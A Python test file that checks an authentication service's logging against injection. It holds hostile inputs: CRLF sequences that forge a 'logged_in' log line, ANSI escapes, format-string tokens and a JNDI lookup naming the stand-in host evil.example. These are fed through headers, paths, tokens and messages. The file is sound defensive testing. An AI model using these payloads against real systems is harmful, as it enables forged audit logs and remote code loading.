"""O02: nothing that anybody sends makes a second line of the log, a line of another form or a long one."""

import json
import re
from base64 import urlsafe_b64encode
from collections.abc import Callable

import pytest

from sallyport.edge import FRAMES
from sallyport.use_cases.logout import Logout
from tests.faults.kinds import refusing
from tests.faults.line import Fault, Line
from tests.leaks.journey import Event
from tests.leaks.places import Places
from tests.support.deployed import Stack, sample
from tests.support.shapes import asked

FORGED = '{"level":"INFO","message":"answered","outcome":"logged_in"}'

HOSTILE = {
    "CR LF": f"a\r\n{FORGED}\r\n",
    "LF": f"a\n{FORGED}",
    "CR": f"a\r{FORGED}",
    "line separators": f"a\u2028{FORGED}\u2029{FORGED}\u0085{FORGED}\x0b\x0c\x1c\x1d\x1e",
    "ANSI": "\x1b[2K\x1b[1A\x1b[31mred\x9b31m\x1b]0;title\x07",
    "quotes": '","outcome":"logged_in","a":"\\',
    "formats": "%s %n %(message)s {} {0} {message} {self.__init__} $message ${jndi:ldap://evil.example}",
    "NUL": "a\x00b\x08\x7f",
    "bidi": "\u202e\u2066admin\u2069\u200f\ufeff",
    "a lone surrogate": "a\ud800b",
    "1 MB": "\U0001f600" * 262_144,
}

LONGEST_LINE = 65_536
"""CloudWatch cuts a line of more than 256 KB into several."""

FIELDS = {
    "level", "location", "message", "timestamp", "service", "stack", "route", "status", "outcome", "reason",
    "request_id", "session", "also", "about", "message_id", "use", "made", "dropped", "promoted",
}  # fmt: skip
"""All that a line can say."""


def is_sound(places: Places, lines: int) -> None:
    """Hold what was written to its form: so many lines, all JSON of ours, in printable ASCII, none of them long."""
    for line in places.lines.getvalue().split("\n")[:-1]:
        assert line.isascii()
        assert line.isprintable()
        assert len(line) < LONGEST_LINE
    assert len(places.log_lines()) == lines
    for said in places.log_lines():
        assert said.keys() <= FIELDS
        assert said["message"] in ("answered", "denied", "failed", "mail")
    counts_only_words_of_ours(places)


def counts_only_words_of_ours(places: Places) -> None:
    for count in places.counts():
        (told,) = count["_aws"]["CloudWatchMetrics"]
        assert all(set(names) <= {"service", "stack"} for names in told["Dimensions"])
        assert count["stack"] == "sallyport"
        assert re.fullmatch(r"sallyport\.[a-z_]+", count["service"])
        assert all(re.fullmatch(r"[a-z_]+", metric["Name"]) for metric in told["Metrics"])


def _in_login(field: str) -> Callable[[str], tuple[str, Event]]:
    def event(text: str) -> tuple[str, Event]:
        body = {"email": "a@example.com", "password": "a password", field: text}
        return "Login", sample("login_logged_in", body=body)

    return event


def _in_headers(text: str) -> tuple[str, Event]:
    event = sample("login_logged_in")
    names = ("user-agent", "origin", "x-forwarded-for", "x-sallyport-csrf", "referer", "x-amzn-trace-id", text[:1000])
    event["headers"] |= dict.fromkeys(names, text)
    event["requestContext"]["http"]["userAgent"] = text
    event["cookies"] = [text, f"__Host-refresh_token={text}"]
    return "Login", event


def _in_path(text: str) -> tuple[str, Event]:
    event = sample("account_session_ended")
    event["rawPath"] = event["requestContext"]["http"]["path"] = f"/auth/sessions/{text}"
    event["pathParameters"] = {"sid": text}
    event["rawQueryString"] = text.encode(errors="replace").decode()
    return "Account", event


def _in_request_id(text: str) -> tuple[str, Event]:
    event = sample("logout_ended", body={})
    event["requestContext"]["requestId"] = text
    return "Logout", event


def _in_route(text: str) -> tuple[str, Event]:
    return "Logout", {**sample("logout_ended", body={}), "routeKey": text}


def _in_everything_that_the_context_says(text: str) -> tuple[str, Event]:
    """What whoever may invoke a function directly (E12) can say."""
    event = sample("account_described")
    event["routeKey"] = event["requestContext"]["requestId"] = text
    event["requestContext"]["http"] |= {"method": text, "sourceIp": text}
    event["requestContext"]["authorizer"]["lambda"] |= dict.fromkeys(("sub", "sid", "jti", "client_id"), text)
    return "Account", event


def _token(text: str) -> str:
    header = json.dumps({"alg": "HS256", "kid": text[:5000], "typ": "rt+jwt"}).encode()
    return ".".join(urlsafe_b64encode(part).decode().rstrip("=") for part in (header, b"{}", b"x" * 32))


def _in_kid(text: str) -> tuple[str, Event]:
    return "Refresh", sample("refresh_rotated", body={"refresh_token": _token(text)})


def _in_a_header_of_a_token(text: str) -> tuple[str, Event]:
    return "Authorizer", asked("HTTP API 2.0", f"Bearer {_token(text)}")


def _in_what_the_authorizer_is_told(text: str) -> tuple[str, Event]:
    event = asked("HTTP API 2.0", f"Bearer {text}")
    event["requestContext"]["requestId"] = event["rawPath"] = event["routeArn"] = text
    return "Authorizer", event


def _in_a_message(text: str) -> tuple[str, Event]:
    event = sample("mailer_mailed")
    event["Records"][0] |= {"messageId": text, "body": text}
    return "Mailer", event


PLACES: dict[str, Callable[[str], tuple[str, Event]]] = {
    "e-mail": _in_login("email"),
    "password": _in_login("password"),
    "device token": _in_login("device_token"),
    "mode": _in_login("mode"),
    "headers": _in_headers,
    "path": _in_path,
    "request id": _in_request_id,
    "route": _in_route,
    "context": _in_everything_that_the_context_says,
    "kid": _in_kid,
    "kid at the authorizer": _in_a_header_of_a_token,
    "credential": _in_what_the_authorizer_is_told,
    "message": _in_a_message,
}


@pytest.mark.parametrize("where", PLACES)
def test_o02_a_request_is_one_short_line_whatever_stands_in_it(stack: Stack, places: Places, where: str) -> None:
    for text in HOSTILE.values():
        function, event = PLACES[where](text)
        places.clear()
        with places.watched():
            places.invoke(stack.deployment.functions[function], event)
        is_sound(places, lines=1)


def test_o02_a_crash_in_an_endless_recursion_is_one_short_line(
    stack: Stack, places: Places, monkeypatch: pytest.MonkeyPatch
) -> None:
    def deeper(*more: object, **and_more: object) -> None:
        deeper(*more, **and_more)

    monkeypatch.setattr(Logout, "by_refresh_token", deeper)
    with places.watched():
        stack.log_out(refresh_token="a.b.c")

    is_sound(places, lines=1)
    (said,) = places.log_lines()
    assert said["reason"].startswith("RecursionError in")
    assert said["reason"].count(" > ") == FRAMES - 1


def test_o02_a_word_of_aws_is_cut_as_well(stack: Stack, places: Places, line: Line, naps: list[float]) -> None:
    endless = Fault("a long word", refusing(FORGED * 10_000))
    user = stack.new_user()
    with places.watched():
        line.listen()
        line.fail(0, endless)
        answer = stack.log_in(user)

    assert answer.status == 503
    is_sound(places, lines=1)
